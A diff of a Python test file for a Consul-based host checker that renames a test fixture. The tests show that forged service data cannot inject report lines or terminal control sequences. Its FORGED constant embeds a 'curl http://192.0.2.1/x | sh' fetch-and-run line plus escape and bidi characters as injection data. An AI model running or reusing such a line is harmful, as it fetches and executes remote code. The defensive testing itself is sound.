@@ -14,7 +14,7 @@ from host_program.facts import ports
 from host_program.output import Failure
 from tests.host import network as servers
 from tests.host.conftest import needs_root
-from tests.host.sound import ADDRESS, PROCESS, RESOLV_CONF, Sound
+from tests.host.healthy import ADDRESS, PROCESS, RESOLV_CONF, HealthyHost
 
 FORGED = "web\nbroken  guard  open\t-> curl http://192.0.2.1/x | sh\n\x1b[2J\x1b]0;x\x07\u202e\u2028"
 NOBODY = 65534
@@ -29,10 +29,10 @@ def service(name: str) -> str:
     return json.dumps({"h:web:80": {"ID": "h:web:80", "Service": name, "Address": "127.0.0.1", "Port": 80}})
 
 
-def test_a_service_cannot_forge_a_line_of_the_report(connected: Sound) -> None:
-    connected.say("agent.services", service("web"))
+def test_a_service_cannot_forge_a_line_of_the_report(connected: HealthyHost) -> None:
+    connected.set_answer("agent.services", service("web"))
     plain = connected.run("check", code=2).stdout.splitlines()
-    connected.say("agent.services", service(FORGED))
+    connected.set_answer("agent.services", service(FORGED))
     file = connected.host.root / "consul.prom"
     said = connected.run("check", code=2).stdout
     assert is_clean(said)
@@ -43,9 +43,9 @@ def test_a_service_cannot_forge_a_line_of_the_report(connected: Sound) -> None:
     assert all(re.fullmatch(r"consul_docker_host_(state|link\{link=\"[a-z]+\"\}) (0|0\.5|1|2)", line) for line in lines)
 
 
-def test_a_member_cannot_write_to_the_terminal_that_shows_the_status(connected: Sound) -> None:
-    connected.say("agent.members", json.dumps([{"Name": FORGED, "Addr": FORGED, "Status": 1, "Tags": {}}]))
-    connected.say("agent.services", service(FORGED))
+def test_a_member_cannot_write_to_the_terminal_that_shows_the_status(connected: HealthyHost) -> None:
+    connected.set_answer("agent.members", json.dumps([{"Name": FORGED, "Addr": FORGED, "Status": 1, "Tags": {}}]))
+    connected.set_answer("agent.services", service(FORGED))
     said = connected.run("status", code=0).stdout
     assert is_clean(said)
     assert not [line for line in said.splitlines() if line.startswith("broken")]
@@ -54,16 +54,16 @@ def test_a_member_cannot_write_to_the_terminal_that_shows_the_status(connected: 
 @pytest.mark.parametrize(
     "value", ["[]", "null", '"x"', "7", '{"Member": 7, "Config": []}', "[" * 100_000, "{", '{"a": {"ID": 7}, "b": 8}']
 )
-def test_an_answer_of_another_shape_is_no_answer(connected: Sound, value: str) -> None:
+def test_an_answer_of_another_shape_is_no_answer(connected: HealthyHost, value: str) -> None:
     """Whoever holds the port answers; that is no reason to end with a traceback."""
     for name in ("agent.self", "agent.members", "agent.services", "status.leader"):
-        connected.say(name, value)
+        connected.set_answer(name, value)
     done = connected.run("check", code=2 if "Addr" not in value else 0)
     assert done.stderr == ""
     assert connected.run("status", code=0).stderr == ""
 
 
-def test_a_container_that_puts_pipes_and_links_in_place_holds_up_nothing(connected: Sound) -> None:
+def test_a_container_that_puts_pipes_and_links_in_place_holds_up_nothing(connected: HealthyHost) -> None:
     entry = connected.host.root / f"proc/{PROCESS}/root/etc"
     entry.mkdir(parents=True)
     os.mkfifo(entry / "resolv.conf")
@@ -155,7 +155,7 @@ def test_a_link_that_leads_nowhere_is_named(tmp_path: Path) -> None:
         shared_directory.replace(str(tmp_path / "b.prom"), b"1")
 
 
-def test_the_agent_s_token_goes_out_in_a_header_alone(connected: Sound, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_the_agent_s_token_goes_out_in_a_header_alone(connected: HealthyHost, monkeypatch: pytest.MonkeyPatch) -> None:
     asked: list[bytes] = []
     answer = servers.answer_request
 
